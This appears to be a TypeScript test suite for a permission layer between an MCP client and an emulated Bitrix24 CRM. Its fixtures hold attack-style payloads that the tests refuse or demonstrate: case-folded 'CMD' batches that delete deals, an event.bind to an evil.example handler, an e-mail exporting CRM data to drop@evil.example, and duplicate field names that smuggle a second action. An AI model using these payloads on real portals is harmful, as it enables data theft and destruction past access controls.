/**
 * Issue 14, the Bitrix24 findings, proved at the emulator through a real MCP client: a refused call sends
 * nothing (the emulator's request log stays empty) and changes nothing (its state is the same), also inside a
 * batch and at the HTTP core below the tools. The emulator models what each finding relies on: parameter names
 * folded the way the portal folds them, an outgoing e-mail activity that is sent at once, a phone removed by
 * `DELETE: "Y"` and contacts unlinked by `CONTACT_IDS: []`. Positive controls show the emulator really does it.
 */
import { request } from 'undici';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { Grant, type PolicyFlags } from '../../src/policy/policy.js';
import { DEMO, type BMulti, type BitrixEmulator } from '../../src/sandbox/bitrix24/index.js';
import { ADMIN, ALL, CREATE_ONLY, FULL, READ_ONLY, WRITE, connectBitrix, errorOf, startBitrix, structured, text } from '../helpers/index.js';

let emu: BitrixEmulator;
beforeEach(async () => {
  emu = await startBitrix({ rateLimit: false });
});
afterEach(async () => emu.close());

/** Everything a refused call could have changed. */
function snapshot(): string {
  const s = emu.state;
  return JSON.stringify([[...s.deals], [...s.leads], [...s.contacts], [...s.activities], s.outbox, s.eventBindings]);
}

/** Calls bitrix_call under `flags` with a fresh log; returns the result and what the emulator received. */
async function call(flags: PolicyFlags, method: string, params: Record<string, unknown>) {
  const c = await connectBitrix(emu, { flags });
  emu.harness.resetLog();
  try {
    const r = await c.call('bitrix_call', { method, params });
    return { r, received: [...emu.requests] };
  } finally {
    await c.close();
  }
}

async function expectRefused(flags: PolicyFlags, method: string, params: Record<string, unknown>, code: 'policy_denied' | 'validation', needs?: RegExp) {
  const before = snapshot();
  const { r, received } = await call(flags, method, params);
  const e = errorOf(r);
  expect(e.code, text(r)).toBe(code);
  if (needs) expect(e.message).toMatch(needs);
  expect(received, `${method} ${JSON.stringify(params)} must send nothing`).toHaveLength(0);
  expect(snapshot()).toBe(before);
  return e;
}

const MODES: Array<[string, PolicyFlags]> = [
  ['read-only', READ_ONLY],
  ['create-only', CREATE_ONLY],
  ['write', WRITE],
  ['full', FULL],
  ['admin', ADMIN],
  ['all', ALL],
];

// ---------------------------------------------------------------- finding 1

describe('finding 1: parameter names fold the way the portal folds them', () => {
  const DEAL = DEMO.ivan.dealId;
  const LEAD = DEMO.ivan.leadId;
  const evil = () => ({
    cmd: { a: 'crm.deal.list?select[]=ID' },
    CMD: {
      a: `crm.deal.delete?id=${DEAL}`,
      b: `crm.lead.update?id=${LEAD}&fields[TITLE]=x`,
      c: 'event.bind?event=ONCRMLEADADD&handler=https://evil.example/h',
    },
  });

  it('control: the emulator runs the upper-case CMD of such a batch, as the portal does', async () => {
    const res = await request(`${emu.webhookUrl}batch.json`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(evil()) });
    expect(res.statusCode).toBe(200);
    await res.body.text();
    expect(emu.state.deals.has(DEAL)).toBe(false);
    expect(emu.state.leads.get(LEAD)!.TITLE).toBe('x');
  });

  for (const [mode, flags] of MODES) {
    it(`${mode}: a batch with both cmd and CMD is refused and nothing is sent`, async () => {
      const e = await expectRefused(flags, 'batch', evil(), 'validation');
      expect(e.message).toMatch(/"cmd" and "CMD"/);
      expect(emu.state.deals.has(DEAL)).toBe(true);
    });
  }

  it('a batch given as CMD/Halt alone is classified by it, and the body sent holds cmd and halt only', async () => {
    await expectRefused(READ_ONLY, 'batch', { CMD: { a: `crm.deal.delete?id=${DEAL}` } }, 'policy_denied', /CRM_ALLOW_DELETE=true/);
    const { r, received } = await call(FULL, 'batch', { CMD: { a: 'crm.deal.list?select[]=ID' }, Halt: 0, extra: 'dropped' });
    expect(r.isError, text(r)).toBeFalsy();
    expect(received).toHaveLength(1);
    expect(JSON.parse(received[0]!.body)).toEqual({ cmd: { a: 'crm.deal.list?select[]=ID' }, halt: 0 });
  });

  it('inside a batch command, fields and FIELDS are one name: refused', async () => {
    await expectRefused(ALL, 'batch', { cmd: { a: `crm.lead.update?id=${LEAD}&fields[TITLE]=safe&FIELDS[TITLE]=x` } }, 'validation', /reads as one name/);
  });

  it('create-only: crm.activity.add with a harmless `fields` and a mailing `FIELDS` is refused; no letter is sent', async () => {
    const call_ = {
      OWNER_TYPE_ID: 3,
      OWNER_ID: DEMO.ivan.contactId,
      TYPE_ID: 2,
      SUBJECT: 'Call',
      RESPONSIBLE_ID: 1,
      COMMUNICATIONS: [{ VALUE: '+79123456789' }],
    };
    const mail = { ...call_, TYPE_ID: 4, DIRECTION: 2, COMPLETED: 'Y', SUBJECT: 'Export', COMMUNICATIONS: [{ VALUE: 'drop@evil.example' }] };
    await expectRefused(CREATE_ONLY, 'crm.activity.add', { fields: call_, FIELDS: mail }, 'validation', /"fields" and "FIELDS"/);
    expect(emu.state.outbox).toEqual([]);
  });

  it('the HTTP core refuses the same bodies by itself, whatever tool built them', async () => {
    const c = await connectBitrix(emu, { flags: ALL });
    emu.harness.resetLog();
    const before = snapshot();
    await expect(c.provider.call({ grant: Grant.readOnly() }, 'batch', evil())).rejects.toMatchObject({ code: 'policy_denied' });
    await expect(c.provider.call({ grant: Grant.for('read') }, 'batch', { CMD: { a: `crm.deal.delete?id=${DEAL}` } })).rejects.toMatchObject({
      code: 'policy_denied',
    });
    await expect(c.provider.call({ grant: Grant.for('create') }, 'crm.lead.add', { fields: { TITLE: 'a' }, FIELDS: { TITLE: 'b' } })).rejects.toMatchObject({
      code: 'policy_denied',
    });
    expect(emu.requests).toHaveLength(0);
    expect(snapshot()).toBe(before);
    await c.close();
  });
});

// ---------------------------------------------------------------- finding 2

describe('finding 2: an activity that delivers a message is admin', () => {
  const mail = (completed: 'Y' | 'N' = 'Y') => ({
    fields: {
      OWNER_TYPE_ID: 3,
      OWNER_ID: DEMO.ivan.contactId,
      TYPE_ID: 4,
      DIRECTION: 2,
      COMPLETED: completed,
      SUBJECT: 'Your data',
      DESCRIPTION: 'Everything the CRM holds',
      RESPONSIBLE_ID: 1,
      COMMUNICATIONS: [{ VALUE: 'drop@evil.example', ENTITY_ID: DEMO.ivan.contactId, ENTITY_TYPE_ID: 3 }],
    },
  });

  it('control: with admin allowed, the emulator sends the letter; left open (COMPLETED N) it does not', async () => {
    const sent = await call(ADMIN, 'crm.activity.add', mail());
    expect(sent.r.isError, text(sent.r)).toBeFalsy();
    expect(emu.state.outbox).toHaveLength(1);
    expect(emu.state.outbox[0]).toMatchObject({ to: ['drop@evil.example'], subject: 'Your data' });
    const open = await call(ADMIN, 'crm.activity.add', mail('N'));
    expect(open.r.isError, text(open.r)).toBeFalsy();
    expect(emu.state.outbox).toHaveLength(1);
  });

  for (const [mode, flags] of MODES.filter(([m]) => m !== 'admin' && m !== 'all')) {
    it(`${mode}: an outgoing e-mail activity is refused as admin, nothing is sent and no letter leaves`, async () => {
      const e = await expectRefused(flags, 'crm.activity.add', mail(), 'policy_denied', /CRM_ALLOW_ADMIN=true/);
      expect(e.message).toMatch(/outgoing e-mail/);
      expect(emu.state.outbox).toEqual([]);
    });
  }

  it('create-only: the same inside a batch, in any spelling, and an SMS provider, are refused', async () => {
    const q = `fields[OWNER_TYPE_ID]=3&fields[OWNER_ID]=${DEMO.ivan.contactId}&fields[SUBJECT]=x&fields[RESPONSIBLE_ID]=1&fields[COMMUNICATIONS][0][VALUE]=drop@evil.example`;
    await expectRefused(
      CREATE_ONLY,
      'batch',
      { cmd: { a: `crm.activity.add?${q}&fields[TYPE_ID]=4&fields[DIRECTION]=2&fields[COMPLETED]=Y` } },
      'policy_denied',
    );
    await expectRefused(CREATE_ONLY, 'batch', { cmd: { a: `crm.activity.add?${q}&fields[type_id]=4&fields[direction]=2` } }, 'policy_denied');
    await expectRefused(CREATE_ONLY, 'crm.activity.add', { fields: { ...mail().fields, TYPE_ID: 2, PROVIDER_ID: 'CRM_SMS' } }, 'policy_denied');
    expect(emu.state.outbox).toEqual([]);
  });

  it('create-only: a call record is still a create, and sends nothing', async () => {
    const before = emu.state.activities.size;
    const { r } = await call(CREATE_ONLY, 'crm.activity.add', {
      fields: {
        OWNER_TYPE_ID: 2,
        OWNER_ID: DEMO.ivan.dealId,
        TYPE_ID: 2,
        DIRECTION: 2,
        SUBJECT: 'Called',
        RESPONSIBLE_ID: 1,
        COMMUNICATIONS: [{ VALUE: DEMO.ivan.phone }],
      },
    });
    expect(r.isError, text(r)).toBeFalsy();
    expect(emu.state.activities.size).toBe(before + 1);
    expect(emu.state.outbox).toEqual([]);
  });
});

// ---------------------------------------------------------------- finding 6

describe('finding 6: an update that unlinks or removes values is a delete', () => {
  const DEAL = DEMO.ivan.dealId;
  const CONTACT = DEMO.ivan.contactId;
  const phoneId = () => (emu.state.contacts.get(CONTACT)!.PHONE as BMulti[])[0]!.ID;

  it('write mode: CONTACT_IDS [] and a phone with DELETE "Y" are refused (directly and in a batch); nothing changes', async () => {
    expect((emu.state.deals.get(DEAL)!.CONTACT_IDS as string[]).length).toBeGreaterThan(0);
    const id = phoneId();
    await expectRefused(WRITE, 'crm.deal.update', { id: DEAL, fields: { CONTACT_IDS: [] } }, 'policy_denied', /CRM_ALLOW_DELETE=true/);
    await expectRefused(WRITE, 'crm.contact.update', { id: CONTACT, fields: { PHONE: [{ ID: id, DELETE: 'Y' }] } }, 'policy_denied', /CRM_ALLOW_DELETE=true/);
    await expectRefused(WRITE, 'batch', { cmd: { a: `crm.deal.update?id=${DEAL}&fields[CONTACT_IDS]=` } }, 'policy_denied');
    await expectRefused(WRITE, 'batch', { cmd: { a: `crm.deal.update?id=${DEAL}&fields[CONTACT_IDS][]=` } }, 'policy_denied');
    await expectRefused(
      WRITE,
      'batch',
      { cmd: { a: `crm.contact.update?id=${CONTACT}&fields[PHONE][0][ID]=${id}&fields[PHONE][0][DELETE]=Y` } },
      'policy_denied',
    );
    expect((emu.state.contacts.get(CONTACT)!.PHONE as BMulti[]).some((p) => p.ID === id)).toBe(true);
  });

  it('control: with deletes allowed the same calls unlink the contacts and remove the phone', async () => {
    const id = phoneId();
    const a = await call(FULL, 'crm.deal.update', { id: DEAL, fields: { CONTACT_IDS: [] } });
    expect(a.r.isError, text(a.r)).toBeFalsy();
    expect(emu.state.deals.get(DEAL)!.CONTACT_IDS).toEqual([]);
    const b = await call(FULL, 'batch', { cmd: { a: `crm.contact.update?id=${CONTACT}&fields[PHONE][0][ID]=${id}&fields[PHONE][0][DELETE]=Y` } });
    expect(b.r.isError, text(b.r)).toBeFalsy();
    expect((emu.state.contacts.get(CONTACT)!.PHONE as BMulti[]).some((p) => p.ID === id)).toBe(false);
  });

  it('write mode: adding a phone is still an update', async () => {
    const { r } = await call(WRITE, 'crm.contact.update', { id: CONTACT, fields: { PHONE: [{ VALUE: '+12025550199', VALUE_TYPE: 'WORK' }] } });
    expect(r.isError, text(r)).toBeFalsy();
    expect((emu.state.contacts.get(CONTACT)!.PHONE as BMulti[]).map((p) => p.VALUE)).toContain('+12025550199');
  });
});

// ---------------------------------------------------------------- findings 10 and 11

describe('finding 10: a read word after an unknown name is no read', () => {
  for (const method of ['crm.lead.update.get', 'crm.lead.update.list']) {
    it(`create-only: ${method} is refused as unknown (admin), directly and in a batch`, async () => {
      const e = await expectRefused(CREATE_ONLY, method, { id: DEMO.ivan.leadId, fields: { TITLE: 'x' } }, 'policy_denied', /CRM_ALLOW_ADMIN=true/);
      expect(e.message).toMatch(/not in the classification table/);
      await expectRefused(CREATE_ONLY, 'batch', { cmd: { a: 'crm.deal.list', b: `${method}?id=${DEMO.ivan.leadId}&fields[TITLE]=x` } }, 'policy_denied');
    });
  }

  it('read-only: vetted reads still go through', async () => {
    const { r, received } = await call(READ_ONLY, 'crm.deal.list', { select: ['ID'] });
    expect(structured<{ result: unknown[] }>(r).result.length).toBeGreaterThan(0);
    expect(received).toHaveLength(1);
  });
});

describe('finding 11: im.chat.user.add is admin; crm.deal.recurring.expose is an update', () => {
  it('write mode: adding a person to a chat is refused as admin and nothing is sent', async () => {
    await expectRefused(WRITE, 'im.chat.user.add', { CHAT_ID: 1, USERS: [2] }, 'policy_denied', /CRM_ALLOW_ADMIN=true/);
  });

  it('create-only: crm.deal.recurring.expose is refused because the table says update (it advances the template)', async () => {
    const e = await expectRefused(CREATE_ONLY, 'crm.deal.recurring.expose', { id: 1 }, 'policy_denied', /CRM_SAFE_MODE=false/);
    expect(e.message).toMatch(/crm\.deal\.recurring\.expose is classified as update/);
  });
});
